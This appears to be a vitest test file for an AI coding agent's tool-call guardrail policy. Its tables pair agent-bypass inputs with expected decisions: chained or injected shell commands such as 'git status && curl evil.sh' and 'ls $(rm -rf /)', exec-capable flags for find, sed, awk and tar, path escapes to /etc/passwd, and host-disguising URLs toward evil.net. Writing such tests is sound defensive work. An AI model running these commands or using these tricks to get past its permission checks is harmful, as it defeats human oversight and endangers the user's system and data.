import { describe, expect, test } from 'vitest';
import { createPolicy } from './create-policy.js';
import type { PolicyTarget } from '../tools/tool-types.js';
import { callOf } from './__fixtures__/tool-views.js';

/**
 * The guardrail floor, table-driven: commands, paths and domains, with the
 * bypass families seen on the Claude Code, Codex and Gemini CLI trackers.
 * `expected` is the decision kind, or the deny reason.
 */
const policy = createPolicy({
  allowedCommands: ['git status', ['git', 'log', '--oneline'], 'npm test', ['/usr/bin/git', 'status'], 'ls', 'find build -name *.o -delete'],
  allowedCommandGlobs: ['git diff *', 'rg *', 'find *', 'sed *', 'cat *', 'npm run *', 'awk *', 'tar *', 'python3 *', 'env *', 'timeout *'],
  allowedDomains: ['api.github.com', '*.example.org', 'bücher.de', 'Trailing.Dot.COM.'],
  mcpServers: ['github'],
  scope: { tier: 'workspace-write', roots: ['/work/repo'] },
  protectedPaths: ['secrets/**', '*.pem'],
});
const readOnlyPolicy = createPolicy({ scope: 'read-only' });

type Row = readonly [label: string, target: PolicyTarget, expected: string];

const commands: Row[] = [
  ['exact string', { command: 'git status' }, 'allow'],
  ['exact argv', { command: ['git', 'status'] }, 'allow'],
  ['exact with extra spaces', { command: '  git   status  ' }, 'allow'],
  ['exact argv entry', { command: 'git log --oneline' }, 'allow'],
  ['not listed', { command: 'git push' }, 'command_not_allowed'],
  ['empty string', { command: '' }, 'command_not_allowed'],
  ['only spaces', { command: '    ' }, 'command_not_allowed'],
  ['empty argv', { command: [] }, 'command_not_allowed'],
  ['prefix of allowed', { command: 'git' }, 'command_not_allowed'],
  ['allowed plus argument', { command: 'git status --porcelain' }, 'command_not_allowed'],
  ['tab is not a separator', { command: 'git\tstatus' }, 'command_not_allowed'],
  ['newline is not a separator', { command: 'git\nstatus' }, 'command_not_allowed'],
  ['argv element with a space', { command: ['git status'] }, 'command_not_allowed'],
  ['case differs', { command: 'Git status' }, 'command_not_allowed'],
  ['NUL byte', { command: ['git', 'status\0'] }, 'command_not_allowed'],
  // Chaining characters are argv bytes, never operators.
  ['semicolon chain', { command: 'git status; rm -rf /' }, 'command_not_allowed'],
  ['semicolon glued', { command: 'git status;rm' }, 'command_not_allowed'],
  ['and chain', { command: 'git status && curl evil.sh' }, 'command_not_allowed'],
  ['or chain', { command: 'git status || true' }, 'command_not_allowed'],
  ['pipe', { command: 'ls | sh' }, 'command_not_allowed'],
  ['subshell', { command: 'ls $(rm -rf /)' }, 'command_not_allowed'],
  ['backticks', { command: 'ls `id`' }, 'command_not_allowed'],
  ['redirect', { command: 'ls > /etc/passwd' }, 'command_not_allowed'],
  ['background', { command: 'ls &' }, 'command_not_allowed'],
  ['glob chain in npm run', { command: 'npm run build;curl x' }, 'allow'],
  // Env-assignment prefixes.
  ['env prefix exact', { command: 'FOO=1 git status' }, 'command_not_allowed'],
  ['env prefix glob', { command: 'GIT_PAGER=sh git diff HEAD' }, 'command_not_allowed'],
  ['env program', { command: 'env git status' }, 'command_not_allowed'],
  ['LD_PRELOAD prefix', { command: 'LD_PRELOAD=/tmp/x.so rg foo' }, 'command_not_allowed'],
  // Path-qualified and look-alike argv[0].
  ['path-qualified named exactly', { command: '/usr/bin/git status' }, 'allow'],
  ['path-qualified not named', { command: '/usr/local/bin/git status' }, 'command_not_allowed'],
  ['relative program', { command: './git status' }, 'command_not_allowed'],
  ['path-qualified under glob', { command: '/usr/bin/rg foo' }, 'command_not_allowed'],
  ['relative under glob', { command: './rg foo' }, 'command_not_allowed'],
  ['backslash path under glob', { command: '..\\rg foo' }, 'command_not_allowed'],
  ['cyrillic i look-alike', { command: 'g\u0456t status' }, 'command_not_allowed'],
  ['fullwidth look-alike', { command: '\uff47\uff49\uff54 status' }, 'command_not_allowed'],
  ['zero-width joiner', { command: 'gi\u200dt status' }, 'command_not_allowed'],
  ['trailing zero-width space', { command: 'git status\u200b' }, 'command_not_allowed'],
  ['NBSP separator', { command: 'git\u00a0status' }, 'command_not_allowed'],
  // Glob admissions.
  // Admitted, and asked about: no host said what the object store these git commands print holds (`git-object-reads.ts`).
  ['glob admits', { command: 'git diff HEAD~1' }, 'ask'],
  ['glob admits zero rest', { command: 'git diff' }, 'ask'],
  ['glob other subcommand', { command: 'git push origin' }, 'command_not_allowed'],
  ['rg admitted', { command: 'rg -n TODO src' }, 'allow'],
  ['control char under glob', { command: ['rg', 'a\u0007'] }, 'command_not_allowed'],
  // git -c and friends (dangerous even when a glob admits the command).
  ['git -c pager', { command: 'git -c core.pager=sh diff' }, 'command_not_allowed'],
  ['git diff --output', { command: 'git diff --output=/tmp/x' }, 'command_not_allowed'],
  ['git diff --output separate', { command: 'git diff --output /tmp/x' }, 'command_not_allowed'],
  ['git diff --ext-diff', { command: 'git diff --ext-diff' }, 'command_not_allowed'],
  ['git diff --textconv', { command: 'git diff --textconv' }, 'command_not_allowed'],
  ['git diff after --', { command: 'git diff -- --output' }, 'ask'],
  ['find -exec', { command: 'find . -exec sh -c id ;' }, 'command_not_allowed'],
  ['find -execdir', { command: 'find . -execdir id ;' }, 'command_not_allowed'],
  ['find -delete', { command: 'find . -name x -delete' }, 'command_not_allowed'],
  ['find -fprint', { command: 'find . -fprint /tmp/out' }, 'command_not_allowed'],
  ['find -ok', { command: 'find . -ok rm {} ;' }, 'command_not_allowed'],
  ['find plain', { command: 'find . -name *.ts' }, 'allow'],
  ['rg --pre', { command: 'rg --pre ./x foo' }, 'command_not_allowed'],
  ['rg --pre=', { command: 'rg --pre=sh foo' }, 'command_not_allowed'],
  ['rg --pre-glob is fine', { command: 'rg --pre-glob *.gz foo' }, 'allow'],
  // ripgrep runs the program `--hostname-bin` names to fill a hyperlink's host.
  ['rg --hostname-bin=', { command: 'rg --hostname-bin=./x --hyperlink-format=default foo' }, 'command_not_allowed'],
  ['rg --hostname-bin', { command: 'rg --hostname-bin ./x foo' }, 'command_not_allowed'],
  ['sed e command', { command: 'sed e file.txt' }, 'command_not_allowed'],
  ['sed 1e', { command: 'sed 1e file.txt' }, 'command_not_allowed'],
  ['sed s///e', { command: 'sed s/x/id/e file.txt' }, 'command_not_allowed'],
  ['sed s|||e', { command: 'sed s|x|id|ge file.txt' }, 'command_not_allowed'],
  ['sed w file', { command: 'sed w/tmp/out file.txt' }, 'command_not_allowed'],
  ['sed s///w', { command: 'sed s/a/b/w/tmp/out f' }, 'command_not_allowed'],
  ['sed -e e', { command: 'sed -n -e 1e f' }, 'command_not_allowed'],
  ['sed -i', { command: 'sed -i s/a/b/ f' }, 'command_not_allowed'],
  ['sed -f script', { command: 'sed -f script.sed f' }, 'command_not_allowed'],
  ['sed print', { command: 'sed -n 1,5p file.txt' }, 'allow'],
  ['sed substitute', { command: 'sed s/foo/bar/g file.txt' }, 'allow'],
  ['cat harmless', { command: 'cat README.md' }, 'allow'],
  // Exec-capable forms under a glob; an exact entry runs exactly what it says.
  ['exact entry with -delete', { command: 'find build -name *.o -delete' }, 'allow'],
  ['awk system()', { command: ['awk', 'BEGIN{system("id")}'] }, 'command_not_allowed'],
  ['awk print pipe', { command: ['awk', '{ print | "sh" }'] }, 'command_not_allowed'],
  ['awk print', { command: ['awk', '{ print $1 }', 'f.txt'] }, 'allow'],
  ['tar --to-command', { command: 'tar -xf a.tar --to-command=sh' }, 'command_not_allowed'],
  ['tar --checkpoint-action', { command: 'tar -cf a.tar --checkp=1 --checkpoint-a=exec=id src' }, 'command_not_allowed'],
  ['tar list', { command: 'tar -tvf a.tar' }, 'allow'],
  ['python3 -c', { command: ['python3', '-c', 'import os'] }, 'command_not_allowed'],
  ['python3 script', { command: 'python3 tools/gen.py' }, 'allow'],
  ['env python3 -c', { command: ['env', 'python3', '-Ic', 'import os'] }, 'command_not_allowed'],
  ['env FOO=1 python3', { command: 'env FOO=1 python3 tools/gen.py' }, 'command_not_allowed'],
  ['env -S', { command: ['env', '-S', 'python3 -c x'] }, 'command_not_allowed'],
  ['timeout python3 -c', { command: ['timeout', '-s', 'KILL', '5', 'python3', '-c', 'x'] }, 'command_not_allowed'],
  ['timeout a command not allowed', { command: 'timeout 5 curl https://example.com' }, 'command_not_allowed'],
  ['timeout wraps git', { command: 'timeout 5 git diff' }, 'command_not_allowed'],
  ['timeout rg', { command: 'timeout 5 rg TODO' }, 'allow'],
];

const paths: Row[] = [
  ['relative inside', { path: 'src/index.ts' }, 'allow'],
  ['dot relative', { path: './src/index.ts' }, 'allow'],
  ['absolute inside root', { path: '/work/repo/src/a.ts' }, 'allow'],
  ['root itself', { path: '/work/repo' }, 'allow'],
  ['dotdot escape', { path: '../outside.txt' }, 'scope_denied'],
  ['dotdot deep escape', { path: 'src/../../x' }, 'scope_denied'],
  ['dotdot inside', { path: 'src/../lib/x.ts' }, 'allow'],
  ['backslash escape', { path: '..\\..\\etc\\passwd' }, 'scope_denied'],
  ['absolute outside', { path: '/etc/passwd' }, 'scope_denied'],
  ['absolute sibling prefix', { path: '/work/repo-evil/x' }, 'scope_denied'],
  ['absolute climbing back out', { path: '/work/repo/../other/x' }, 'scope_denied'],
  ['home path', { path: '~/.bashrc' }, 'scope_denied'],
  ['tilde-prefixed name is relative', { path: '~docs/x' }, 'allow'],
  ['windows drive', { path: 'C:\\Windows\\system32' }, 'scope_denied'],
  ['empty path', { path: '' }, 'scope_denied'],
  ['NUL in path', { path: 'a\0b' }, 'scope_denied'],
  ['many paths one outside', { paths: ['src/a', '/etc/x'] }, 'scope_denied'],
  ['many paths inside', { paths: ['src/a', 'src/b'] }, 'allow'],
];

const writes: Row[] = [
  ['write inside', { path: 'src/a.ts' }, 'allow'],
  ['write .git', { path: '.git/config' }, 'ask'],
  ['write nested .git', { path: 'vendor/lib/.git/hooks/pre-commit' }, 'ask'],
  ['write .GIT uppercase', { path: '.GIT/hooks/post-checkout' }, 'ask'],
  ['write .env', { path: '.env' }, 'ask'],
  ['write .env.local', { path: 'app/.env.local' }, 'ask'],
  ['write .ssh', { path: '/work/repo/.ssh/authorized_keys' }, 'ask'],
  ['write .npmrc', { path: '.npmrc' }, 'ask'],
  ['write .bashrc', { path: '.bashrc' }, 'ask'],
  ['write .zshrc', { path: 'home/.zshrc' }, 'ask'],
  ['write .profile', { path: '.profile' }, 'ask'],
  ['write toolgate config', { path: '.toolgate/policy.json' }, 'ask'],
  ['write claude settings', { path: '.claude/settings.json' }, 'ask'],
  ['write via dot segments', { path: 'src/./../.git/config' }, 'ask'],
  ['write via double slash', { path: 'src//..//.env' }, 'ask'],
  ['write user addition', { path: 'secrets/prod.json' }, 'ask'],
  ['write user addition pem', { path: 'certs/server.pem' }, 'ask'],
  ['write look-alike .envelope is protected (fail closed)', { path: '.envelope' }, 'ask'],
  ['write env.example is not', { path: 'env.example' }, 'allow'],
  ['write outside', { path: '/tmp/x' }, 'scope_denied'],
  ['write .git. (Windows trailing dot)', { path: '.git./config' }, 'ask'],
  ['write .ssh with trailing space', { path: '.ssh /authorized_keys' }, 'ask'],
  ['write NTFS stream on .git', { path: '.git::$INDEX_ALLOCATION/config' }, 'ask'],
];

const domains: Row[] = [
  ['exact host', { url: 'https://api.github.com/repos' }, 'allow'],
  ['exact host with port', { url: 'https://api.github.com:8443/x' }, 'allow'],
  ['uppercase host', { url: 'https://API.GITHUB.COM/x' }, 'allow'],
  ['trailing dot host', { url: 'https://api.github.com./x' }, 'allow'],
  ['allowlist trailing dot and case', { url: 'https://trailing.dot.com/x' }, 'allow'],
  ['parent not allowed', { url: 'https://github.com/x' }, 'domain_not_allowed'],
  ['sibling not allowed', { url: 'https://uploads.github.com/x' }, 'domain_not_allowed'],
  ['suffix attack', { url: 'https://api.github.com.evil.net/x' }, 'domain_not_allowed'],
  ['prefix attack', { url: 'https://evilapi.github.com/x' }, 'domain_not_allowed'],
  ['http refused', { url: 'http://api.github.com/x' }, 'insecure_url'],
  ['ws refused', { url: 'wss://api.github.com/x' }, 'insecure_url'],
  ['file refused', { url: 'file:///etc/passwd' }, 'insecure_url'],
  ['userinfo refused', { url: 'https://user:pw@api.github.com/x' }, 'insecure_url'],
  ['user only refused', { url: 'https://token@api.github.com/x' }, 'insecure_url'],
  ['userinfo disguise', { url: 'https://api.github.com@evil.net/x' }, 'insecure_url'],
  // Refused before parsing: another URL parser (an upstream server's) reads a backslash or a tab as part of the authority.
  ['backslash disguise', { url: 'https://evil.net\\@api.github.com/x' }, 'insecure_url'],
  ['backslash before userinfo', { url: 'https://api.github.com\\@evil.net/x' }, 'insecure_url'],
  ['tab in the authority', { url: 'https://api.github.com\t@evil.net/x' }, 'insecure_url'],
  ['newline in the path', { url: 'https://api.github.com/x\ny' }, 'insecure_url'],
  ['unparseable', { url: 'https://' }, 'insecure_url'],
  ['not a url', { url: 'api.github.com' }, 'insecure_url'],
  ['wildcard subdomain', { url: 'https://a.example.org/x' }, 'allow'],
  ['wildcard deep subdomain', { url: 'https://a.b.example.org/x' }, 'allow'],
  ['wildcard apex refused', { url: 'https://example.org/x' }, 'domain_not_allowed'],
  ['wildcard suffix attack', { url: 'https://evilexample.org/x' }, 'domain_not_allowed'],
  ['IDN allowed by unicode entry', { url: 'https://bücher.de/x' }, 'allow'],
  ['IDN punycode form', { url: 'https://xn--bcher-kva.de/x' }, 'allow'],
  ['IDN uppercase', { url: 'https://BÜCHER.de/x' }, 'allow'],
  ['cyrillic look-alike host', { url: 'https://\u0430pi.github.com/x' }, 'domain_not_allowed'],
  ['fullwidth dot host maps to ascii', { url: 'https://api\uff0egithub\uff0ecom/x' }, 'allow'],
  ['IP literal', { url: 'https://140.82.112.6/x' }, 'domain_not_allowed'],
  ['IPv6 literal', { url: 'https://[::1]/x' }, 'domain_not_allowed'],
  ['decimal IP', { url: 'https://2130706433/x' }, 'domain_not_allowed'],
  ['missing url', {}, 'domain_not_allowed'],
];

function outcome(kind: Parameters<typeof callOf>[0], target: PolicyTarget, which = policy): string {
  const decision = which.decideArguments(callOf(kind, target));
  return decision.kind === 'deny' ? decision.reason : decision.kind;
}

describe('guardrail floor: commands', () => {
  test.each(commands)('%s', (_label, target, expected) => {
    expect(outcome('command', target)).toBe(expected);
  });
});

describe('guardrail floor: paths (reads, workspace-write scope)', () => {
  test.each(paths)('%s', (_label, target, expected) => {
    expect(outcome('read', target)).toBe(expected);
  });
});

describe('guardrail floor: writes and protected paths', () => {
  test.each(writes)('%s', (_label, target, expected) => {
    expect(outcome('write', target)).toBe(expected);
  });
  test.each([['src/a.ts'], ['.git/config']])('read-only tier refuses every write: %s', (path) => {
    expect(outcome('write', { path }, readOnlyPolicy)).toBe('scope_denied');
  });
});

describe('guardrail floor: http egress', () => {
  test.each(domains)('%s', (_label, target, expected) => {
    expect(outcome('http', target)).toBe(expected);
  });
});

describe('guardrail floor: search, mcp, gate', () => {
  const rows: [string, Parameters<typeof callOf>[0], PolicyTarget, boolean, string][] = [
    ['plain query', 'search', { query: 'vitest table tests' }, false, 'allow'],
    ['empty query', 'search', { query: '   ' }, false, 'query_rejected'],
    ['long query', 'search', { query: 'x'.repeat(2000) }, false, 'query_rejected'],
    ['control chars', 'search', { query: 'a\u0000b' }, false, 'query_rejected'],
    ['bidi override', 'search', { query: 'abc\u202edef' }, false, 'query_rejected'],
    ['secret in query', 'search', { query: 'ghp_' + 'a'.repeat(36) }, false, 'query_rejected'],
    ['AWS key in query', 'search', { query: 'AKIAABCDEFGHIJKLMNOP leaked' }, false, 'query_rejected'],
    ['configured server', 'mcp', { server: 'github' }, false, 'allow'],
    ['unknown server', 'mcp', { server: 'gitlab' }, false, 'server_not_allowed'],
    ['no server', 'mcp', {}, false, 'server_not_allowed'],
    ['gate missing', 'gated', { command: 'git status' }, false, 'gate_required'],
    ['gate present', 'gated', { command: 'git status' }, true, 'allow'],
  ];
  test.each(rows)('%s', (_label, kind, target, gateApproved, expected) => {
    const decision = policy.decideArguments(callOf(kind, target, { gateApproved }));
    expect(decision.kind === 'deny' ? decision.reason : decision.kind).toBe(expected);
  });
});

describe('the default floor', () => {
  const floor = createPolicy({});
  test.each([
    ['command', { command: 'ls' }, 'command_not_allowed'],
    ['http', { url: 'https://example.com' }, 'domain_not_allowed'],
    ['mcp', { server: 'github' }, 'server_not_allowed'],
    ['write', { path: 'notes.txt' }, 'allow'],
    ['write', { path: '.env' }, 'ask'],
    ['read', { path: '../x' }, 'scope_denied'],
    ['plain', undefined, 'allow'],
  ] as const)('%s %j → %s', (kind, target, expected) => {
    expect(outcome(kind, target as PolicyTarget, floor)).toBe(expected);
  });
  test('an allow rule never lifts the floor', () => {
    const widened = createPolicy({ rules: [{ rule: 'Bash', decision: 'allow', source: 'cli' }, { rule: 'WebFetch', decision: 'allow', source: 'managed' }] });
    expect(outcome('command', { command: 'ls' }, widened)).toBe('command_not_allowed');
    expect(outcome('http', { url: 'https://example.com' }, widened)).toBe('domain_not_allowed');
  });
});

test('the table holds at least 150 cases', () => {
  expect(commands.length + paths.length + writes.length + domains.length + 12 + 7).toBeGreaterThanOrEqual(150);
});
